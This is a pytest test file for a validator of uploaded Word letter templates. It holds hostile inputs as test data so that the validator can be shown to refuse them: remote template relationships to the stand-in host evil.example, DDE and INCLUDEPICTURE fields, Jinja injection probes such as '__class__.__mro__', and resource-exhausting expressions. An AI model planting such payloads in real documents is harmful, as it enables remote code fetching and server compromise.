"""Word templates from outside: none of them fetches, calls, or keeps the server busy."""

from __future__ import annotations

import io
import time
import zipfile
from dataclasses import replace
from typing import Any

import pytest
from django.utils import translation
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from directives.letters.docx import letter_docx
from directives.letters.domain import LetterRow, LetterTable
from directives.letters.faults import TemplateFault
from directives.letters.sample import sample_letter
from directives.letters.template_services import template_tried
from tests.directives.letters.test_letter_docx import changed, refused, with_text

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OUTER = (
    f'<Relationship Id="rX9" Type="{OFFICE}/attachedTemplate" '
    'Target="http://evil.example/a.dotm" TargetMode="External"/>'
)
PREFIXED = '<q:Relationship xmlns:q="http://schemas.openxmlformats.org/package/2006/relationships" '
WORD_RELS = "word/_rels/document.xml.rels"


def repacked(part: str, edit: Any) -> bytes:
    """A good template of which one part reads differently."""
    made = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(with_text("{{ so }}"))) as source,
        zipfile.ZipFile(made, "w") as target,
    ):
        for name in source.namelist():
            data = source.read(name)
            target.writestr(name, edit(data) if name == part else data)
    return made.getvalue()


def with_relation(text: str) -> bytes:
    end = b"</Relationships>"
    return repacked(WORD_RELS, lambda data: data.replace(end, text.encode() + end))


def with_body(xml: str) -> bytes:
    """A template with a piece of Word's own XML at its end."""

    def add(document: Any) -> None:
        document.element.body.insert(0, parse_xml(xml))

    return changed(add)


def order(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def paragraph(*runs: str) -> str:
    return f"<w:p {nsdecls('w')}>{''.join(runs)}</w:p>"


def text(words: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{words}</w:t></w:r>'


# -- What a document names outside of itself ------------------------------------------------------


@pytest.mark.parametrize(
    "relation",
    [
        OUTER,
        OUTER.replace("/a.dotm", "/relationships/hyperlink/a.dotm"),
        OUTER.replace("/a.dotm", "/a>.dotm"),
        OUTER.replace('"External"', '"Externa&#108;"'),
        OUTER.replace('"External"', '"external"'),
        OUTER.replace(' TargetMode="External"', ""),
        OUTER.replace("<Relationship ", PREFIXED),
        OUTER.replace("/attachedTemplate", "/image"),
        OUTER.replace("/attachedTemplate", "/x/hyperlink"),
        f'<Relationship Id="rX9" Type="{OFFICE}/aFChunk" Target="a.html"/>',
    ],
)
def test_what_is_fetched_from_outside_is_refused(relation: str) -> None:
    error = refused(with_relation(relation))
    assert (error.code, error.names) == ("outside", ())


def test_relations_in_another_encoding_are_read() -> None:
    def edit(data: bytes) -> bytes:
        body = (
            data.decode().partition("?>")[2].replace("</Relationships>", f"{OUTER}</Relationships>")
        )
        return ('<?xml version="1.0" encoding="UTF-16"?>' + body).encode("utf-16")

    assert refused(repacked(WORD_RELS, edit)).code == "outside"


def test_a_document_with_entities_is_refused() -> None:
    def edit(data: bytes) -> bytes:
        return data.replace(b"?>", b'?><!DOCTYPE Relationships [<!ENTITY a "External">]>', 1)

    assert refused(repacked(WORD_RELS, edit)).code == "outside"


def test_a_link_to_click_on_is_no_harm_but_a_picture_from_it_is() -> None:
    def link(document: Any) -> None:
        kind = f"{OFFICE}/hyperlink"
        name = document.part.relate_to("https://quangtri.gov.vn", kind, is_external=True)
        document.element.body.insert(0, parse_xml(piece.replace("NAME", name)))

    piece = paragraph(f'<w:hyperlink xmlns:r="{OFFICE}" r:id="NAME">{text("a")}</w:hyperlink>')
    template_tried(changed(link))
    piece = paragraph(f'<w:pict xmlns:r="{OFFICE}" r:link="NAME"/>')
    assert refused(changed(link)).code == "outside"


def test_a_template_that_was_taken_earlier_is_not_used() -> None:
    with pytest.raises(TemplateFault):
        letter_docx(sample_letter(), template=with_relation(OUTER))


# -- Fields ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["INCLUDEPICTURE", "includetext", "DDE", "DDEAUTO", "LINK"])
@pytest.mark.parametrize("form", ["simple", "runs", "nested", "bare"])
def test_fields_that_fetch_are_refused(name: str, form: str) -> None:
    target = "&quot;http://evil.example/a&quot;"
    forms = {
        "simple": f'<w:fldSimple w:instr=" {name} {target} "/>',
        "runs": mark("begin") + order(name[:2]) + order(f"{name[2:]} {target}") + mark("end"),
        "nested": mark("begin") + order("IF 1 = 1 ") + mark("begin") + order(f" {name} {target}"),
        "bare": order(f" {name} {target}"),
    }
    error = refused(with_body(paragraph(forms[form])))
    assert (error.code, error.names) == ("field", (name.upper(),))
    assert name.upper() in error.message


@pytest.mark.parametrize(
    "runs",
    [
        mark("begin") + order("PAGE{{ so }}") + mark("end"),
        mark("begin") + mark("begin") + order("QUOTE INCLUDE") + mark("end") + order("PICTURE a"),
        mark("begin") + text("INCLUDEPICTURE a") + mark("end"),
        mark("begin") + text("{# ") + order("PAGE ") + text(" #}") + order("LINK a") + mark("end"),
    ],
)
def test_fields_that_are_put_together_are_refused(runs: str) -> None:
    assert refused(with_body(paragraph(runs))).code == "field"


def test_the_made_letter_is_looked_through_too() -> None:
    swallowed = text("{# ") + order("QUOTE ") + text(" #}")
    runs = mark("begin") + swallowed + order("INCLUDEPICTURE a") + mark("separate") + mark("end")
    template = with_body(
        paragraph(text("{% if so == &quot;77&quot; %}"), runs, text("{% endif %}"))
    )
    head = replace(sample_letter().head, number="77")
    with pytest.raises(TemplateFault):
        letter_docx(replace(sample_letter(), head=head), template=template)


def test_page_numbers_and_dates_are_no_harm() -> None:
    runs = (
        mark("begin") + order(r' DATE \@ "d/M/yyyy" ') + mark("separate") + text("1") + mark("end")
    )
    template_tried(with_body(paragraph(runs)))


# -- Expressions ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("words", "what"),
    [
        ("{{ so.zfill(400000000)|length }}", "( )"),
        ("{{ so.upper() }}", "( )"),
        ("{{ range(10) }}", "( )"),
        ("{{ so ~ so }}", "~"),
        ("{{ so + so }}", "+"),
        ("{{ 'x' * 9999999999 }}", "*"),
        ("{{ 9 ** 9 ** 9 ** 9 }}", "**"),
        ("{{ '%99999999d' % 1 }}", "%"),
        ("{{ [so, so] }}", "list"),
        ("{% set a = so %}{{ a }}", "set"),
        ("{% macro a() %}{% endmacro %}{{ so }}", "macro"),
        ("{% include so %}", "include"),
        ("{{ so.__class__.__mro__ }}", "__mro__"),
        ("{{ so|attr('__class__') }}", "attr"),
        ("{{ so|center(999999999) }}", "center"),
        ("{{ kinh_gui|join(trich_yeu_gon) }}", "join"),
        ("{{ kinh_gui|join('a')|join('b') }}", "join"),
        ("{{ trich_yeu_gon|join('a') }}", "join"),
        ("{{ so|default('" + "x" * 101 + "') }}", "x" * 20),
        ("{% for a in trich_yeu_gon %}{{ a }}{% endfor %}", "for"),
        ("{% for a in [1, 2] %}{{ a }}{% endfor %}", "for"),
        ("{% for a in co_quan recursive %}{{ a }}{% endfor %}", "for"),
        ("{% for a in co_quan %}" * 3 + "{{ so }}" + "{% endfor %}" * 3, "for"),
    ],
)
def test_what_is_not_on_the_lists_is_refused(words: str, what: str) -> None:
    error = refused(with_text(words))
    assert (error.code, error.names) == ("not-allowed", (what,))
    assert what in error.message


@pytest.mark.parametrize("place", ["title", "comments"])
def test_properties_of_the_file_are_held_to_the_same(place: str) -> None:
    def edit(document: Any) -> None:
        setattr(document.core_properties, place, "{{ so ~ so }}")

    assert refused(changed(edit)).code == "not-allowed"


@pytest.mark.parametrize(
    "words", ["{% for dong in co_quan %}{{ dong }}", "{{ so", "{{ so {{ so }}", "{% if so }}"]
)
def test_what_is_left_open_is_refused(words: str) -> None:
    assert refused(with_text(words)).code == "syntax"


@pytest.mark.parametrize(
    "words",
    [
        "{{ kinh_gui|join(', ')|upper }} {{ kinh_gui[-1] }} {{ nguoi_ky|default('…') }}",
        "{% for noi in kinh_gui %}{{ loop.index }}{% if not loop.last %};{% endif %}{% endfor %}",
        "{% if bang and bang.tong is defined %}{{ bang['tieu_de'] }}{% endif %}",
        "{% if kinh_gui|length > 1 %}{{ kinh_gui|first }}{% else %}{{ so }}{% endif %}",
        "{# ghi chú: {{ so }} #}{{ so if so else ky_hieu }}",
    ],
)
def test_what_a_letter_needs_is_taken(words: str) -> None:
    template_tried(with_text(words))


# -- Limits ---------------------------------------------------------------------------------------


def test_loops_have_a_budget_in_every_letter() -> None:
    loops = "{% for a in bang.dong %}{% for b in bang.dong %}{% if a %}{% endif %}"
    template = with_text(loops + "{% endfor %}{% endfor %}")
    template_tried(template)
    row, table = LetterRow("1", "Xã", ("1",)), sample_letter().table
    assert isinstance(table, LetterTable)
    many = replace(sample_letter(), table=replace(table, rows=(row,) * 2000))
    started = time.monotonic()
    with pytest.raises(TemplateFault):
        letter_docx(many, template=template)
    assert time.monotonic() - started < 10


def test_a_province_of_units_fits() -> None:
    table = sample_letter().table
    assert isinstance(table, LetterTable)
    rows = (LetterRow("1", "Xã", ("100,00",) * 12),) * 600
    wide = replace(table, columns=table.columns * 6, rows=rows, total=None)
    template = with_text("{{ so }}")
    made = letter_docx(replace(sample_letter(), table=wide), template=template)
    assert len(Document(io.BytesIO(made)).tables[1].rows) == 601


def test_what_a_template_gives_has_a_limit() -> None:
    line = "x" * 400_000
    template = with_text(
        "{% for a in khoan %}{% for b in co_quan %}" + line + "{% endfor %}{% endfor %}"
    )
    template_tried(template)
    many = replace(sample_letter(), clauses=("Việc",) * 40)
    with pytest.raises(TemplateFault):
        letter_docx(many, template=template)


@pytest.mark.parametrize(
    "words", ["{{ so }}" * 301, "{{ so }}" + "x" * 500_000, "{{ so" + " == so" * 50_000 + " }}"]
)
def test_too_long_a_template_is_refused(words: str) -> None:
    assert refused(with_text(words)).code == "too-much"


def test_a_header_is_named_once() -> None:
    kind = f"{OFFICE}/header"
    again = "".join(
        f'<Relationship Id="rH{number}" Type="{kind}" Target="{where}header1.xml"/>'
        for number, where in enumerate(("", "./"))
    )
    assert refused(with_relation(again)).code == "too-much"


def test_marks_hidden_in_attributes_are_refused() -> None:
    piece = '<w:p><w:pPr><w:pStyle w:val="{{ so }}"/></w:pPr></w:p>'
    assert refused(with_body(piece.replace("<w:p>", f"<w:p {nsdecls('w')}>", 1))).code == "syntax"


def test_a_template_cannot_keep_the_search_busy() -> None:
    started = time.monotonic()
    refused(with_text("{{" * 30_000))
    assert time.monotonic() - started < 10


@pytest.mark.parametrize(
    "code", ["outside", "field", "not-allowed", "too-much", "syntax", "broken"]
)
def test_every_refusal_is_a_sentence(code: str) -> None:
    with translation.override("vi"):
        told = TemplateFault(code, "DDE").message
    assert told.endswith(".") and "%(" not in told
